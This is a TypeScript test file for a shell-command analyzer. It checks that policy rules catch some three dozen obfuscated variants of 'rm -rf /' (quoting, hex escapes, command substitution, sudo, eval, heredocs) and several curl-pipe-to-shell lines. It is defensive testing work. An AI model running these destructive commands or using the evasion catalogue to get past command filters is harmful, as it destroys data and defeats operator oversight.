import { beforeAll, describe, expect, it } from "vitest";
import { compileMatcher } from "../../policy/matcher.js";
import { loadShellAnalyzer, type ShellAnalyzer } from "./index.js";

/**
 * Ways people hide a command from a text filter. Each must still trip the rules an operator would write
 * (`commands: [rm]`, `patterns: ["rm -rf *"]`, `patterns: ["curl * | sh"]`), or be unparseable (which is denied
 * by default).
 */
let shell: ShellAnalyzer;
beforeAll(async () => {
  shell = await loadShellAnalyzer();
});

const rmCommand = compileMatcher({ commands: ["rm"] }, "ssh");
const rmPattern = compileMatcher({ patterns: ["rm -rf *"] }, "ssh");
const curlSh = compileMatcher({ patterns: ["curl * | sh", "curl * | bash"] }, "ssh");

const RM_EVASIONS = [
  "rm -rf /",
  "r''m -rf /",
  'r""m -rf /',
  "\\r\\m -rf /",
  "$'\\x72\\x6d' -rf /",
  "$(echo rm) -rf /",
  "`echo rm` -rf /",
  "/bin/rm -rf /",
  "../../bin/rm -rf /",
  "sudo rm -rf /",
  "sudo -u root -- rm -rf /",
  "sudo -E env FOO=1 rm -rf /",
  "env -i rm -rf /",
  "nice -n 10 nohup timeout 5s rm -rf /",
  'bash -c "rm -rf /"',
  "sh -c 'rm -rf /'",
  "bash -lc 'cd /; rm -rf /'",
  `sudo bash -c "sh -c 'rm -rf /'"`,
  "eval 'rm -rf /'",
  "su -c 'rm -rf /' root",
  "env -S 'rm -rf /'",
  "ls; rm -rf /",
  "true && rm -rf /",
  "false || rm -rf /",
  "ls\nrm -rf /",
  "echo $(rm -rf /)",
  'echo "$(rm -rf /)"',
  "X=rm; $X -rf /",
  "export X=rm; ${X} -rf /",
  "bash <<EOF\nrm -rf /\nEOF",
  "cat <<EOF\n$(rm -rf /)\nEOF",
  "bash <<< 'rm -rf /'",
  "find / -exec rm -rf {} \\;",
  "f() { rm -rf /; }; f",
  "(rm -rf /)",
  "{ rm -rf /; }",
];

describe("shell evasions", () => {
  it.each(RM_EVASIONS)("%j is caught by commands:[rm] and patterns:[rm -rf *]", (line) => {
    const facts = shell.analyze(line).facts;
    expect(facts.unparseable, JSON.stringify(facts.unparseable)).toBeUndefined();
    expect(rmCommand.match(facts)).toBeDefined();
    expect(rmPattern.match(facts)).toBeDefined();
  });

  it("xargs: the command it runs is seen, its input stands in as {}", () => {
    const facts = shell.analyze("echo / | xargs rm -rf").facts;
    expect(rmCommand.match(facts)).toBeDefined();
    expect(rmPattern.match(facts)).toBeDefined();
  });

  it.each(["curl x | sh", "curl -fsSL https://x/i.sh | bash", "curl x | sudo /bin/sh", "/usr/bin/curl x|sh"])(
    "%j is caught by patterns [curl * | sh]",
    (line) => {
      expect(curlSh.match(shell.analyze(line).facts)).toBeDefined();
    },
  );

  it.each(["X=ls; if c; then X=rm; fi; $X -rf /", "$CMD -rf /", 'bash -c "$(curl -s x)"', "sh < /tmp/script.sh"])(
    "%j cannot be resolved and is unparseable",
    (line) => {
      expect(shell.analyze(line).facts.unparseable).toBeDefined();
    },
  );

  it("does not flag harmless lookalikes", () => {
    for (const line of ["echo rm -rf /", "ls -la /rm", "grep 'rm -rf' notes.txt", "command -v rm", "man rm"]) {
      const facts = shell.analyze(line).facts;
      expect(facts.unparseable, line).toBeUndefined();
      expect(rmCommand.match(facts), line).toBeUndefined();
    }
  });
});
